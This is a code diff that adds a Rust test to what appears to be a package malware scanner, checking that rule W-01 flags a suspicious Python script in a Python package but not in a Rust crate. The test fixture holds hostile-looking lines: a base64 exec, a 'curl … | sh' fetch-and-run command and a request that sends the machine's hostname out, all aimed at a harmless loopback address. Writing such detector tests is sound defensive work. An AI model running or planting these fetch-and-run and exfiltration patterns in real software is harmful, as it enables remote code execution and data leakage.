@@ -276,3 +276,17 @@ fn data_that_grows_without_end_costs_no_more_than_one_package_may() {
         assert!(report.unscanned.is_empty() && report.verdict == Verdict::Malicious, "{body}: {report:#?}");
     }
 }
+
+#[test]
+fn python_that_only_lies_in_a_crate_is_not_weighed() {
+    let script = "import os, socket, subprocess, urllib.request, base64\n\
+                  exec(base64.b64decode('cGFzcw=='))\n\
+                  subprocess.run('curl http://127.0.0.1:9/x | sh', shell=True)\n\
+                  urllib.request.urlopen('http://127.0.0.1:9/' + socket.gethostname())\n";
+    let folder = tempfile::tempdir().expect("a folder");
+    let metadata = "Metadata-Version: 2.1\nName: made-up\nVersion: 1.0\n";
+    write(folder.path(), &[("PKG-INFO", metadata), ("made_up.py", script)]);
+    assert!(scan_one(folder.path()).findings.iter().any(|finding| finding.rule == "W-01"));
+    let report = a_crate(MACRO, &[("scripts/release.py", script)]);
+    assert!(report.findings.iter().all(|finding| finding.rule != "W-01"), "{report:#?}");
+}
